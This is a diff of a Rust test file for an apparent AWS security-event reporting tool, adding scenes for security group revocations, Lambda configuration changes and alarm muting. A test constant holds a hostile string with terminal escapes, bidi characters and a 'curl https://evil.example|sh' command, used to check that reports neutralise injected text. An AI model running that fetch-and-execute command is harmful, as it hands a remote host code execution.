@@ -3,7 +3,7 @@
 use serde_json::{Value, json};
 
 use super::Scenes;
-use crate::report::tests::events::{GROUP, authorizing, modifying, sample, watched};
+use crate::report::tests::events::{GROUP, authorizing, modifying, revoking, sample, watched};
 use crate::report::tests::scene::Scene;
 
 const EVIL: &str = "x\nUndo: \u{1b}[2Jcurl https://evil.example|sh \u{202e}<b>`id`</b>            [y](z)\u{2028}\u{200b}\"";
@@ -17,6 +17,15 @@ fn hostile() -> Value {
     detail["userAgent"] = EVIL.into();
     detail["eventID"] = EVIL.into();
     detail["responseElements"]["securityGroupRuleSet"]["items"][0]["description"] = EVIL.into();
+    event
+}
+
+/// CloudFormation gives the function these settings.
+fn configured(variables: Value) -> Value {
+    let mut event = sample("update-function");
+    let detail = &mut event["detail"];
+    detail["eventName"] = json!("UpdateFunctionConfiguration20150331v2");
+    detail["requestParameters"]["environment"] = json!({ "variables": variables });
     event
 }
 
@@ -44,6 +53,31 @@ pub(super) fn all() -> Scenes {
             Scene::new().with_rules(&["tcp 443 0.0.0.0/0"]).run(&sample("revoke-http")),
         ),
         (
+            "website-closed-for-ipv6",
+            Scene::new()
+                .with_rules(&["tcp 80 0.0.0.0/0", "tcp 443 0.0.0.0/0"])
+                .run(&revoking(&["tcp 80 ::/0", "tcp 443 ::/0"])),
+        ),
+        (
+            "website-narrowed",
+            Scene::new()
+                .with_rules(&["tcp 80-443 198.51.100.7/32"])
+                .run(&revoking(&["tcp 443 0.0.0.0/0", "tcp 80 0.0.0.0/0"])),
+        ),
+        (
+            "website-closed-to-a-load-balancer",
+            Scene::new()
+                .with_rules(&["tcp 80 sg-0fedcba9876543210"])
+                .run(&sample("revoke-load-balancer")),
+        ),
+        (
+            "web-port-closed",
+            Scene::new()
+                .with("WEB_PORTS", "80,443")
+                .with_rules(&["tcp 443 0.0.0.0/0"])
+                .run(&revoking(&["tcp 80 0.0.0.0/0"])),
+        ),
+        (
             "website-perhaps-closed",
             Scene::new()
                 .with_rules(&["tcp 443 0.0.0.0/0 sgr-0c3d4e5f678901234"])
@@ -56,6 +90,32 @@ pub(super) fn all() -> Scenes {
         ("trail-changed-cut-short", Scene::new().run(&cut_short)),
         ("rule-changed", Scene::new().run(&sample("disable-rule"))),
         ("function-changed", Scene::new().run(&sample("update-function"))),
+        ("function-weakened", {
+            Scene::reverting()
+                .with("REMEDIATION", "revert-ingress")
+                .with("SWEEP_REMEDIATION", "revert-ssh")
+                .run(&configured(json!({
+                    "SCOPE": "tag:Application=typo3", "REMEDIATION": "revert-ssh",
+                    "SSH_SOURCES": "203.0.113.0/24", "BASELINE": "as-documented",
+                    "HOLD_MAX_HOURS": "744",
+                })))
+        }),
+        (
+            "function-with-settings-that-are-not-valid",
+            Scene::reverting().run(&configured(json!({"REMEDIATION": "nothing"}))),
+        ),
+        ("rule-of-a-member-changed", {
+            let mut of_member = sample("disable-rule");
+            of_member["account"] = json!("210987654321");
+            of_member["detail"]["recipientAccountId"] = json!("210987654321");
+            of_member["detail"]["userIdentity"]["invokedBy"] =
+                json!("cloudformation.amazonaws.com");
+            Scene::new().run(&of_member)
+        }),
+        ("alarm-muted", {
+            let request = json!({"name": "night", "muteTargets": {"alarmNames": [stack]}});
+            of_service("monitoring", "PutAlarmMuteRule", request)
+        }),
         ("topic-changed", {
             let arn = format!("arn:aws:sns:eu-central-1:123456789012:{stack}");
             of_service("sns", "DeleteTopic", json!({ "topicArn": arn }))
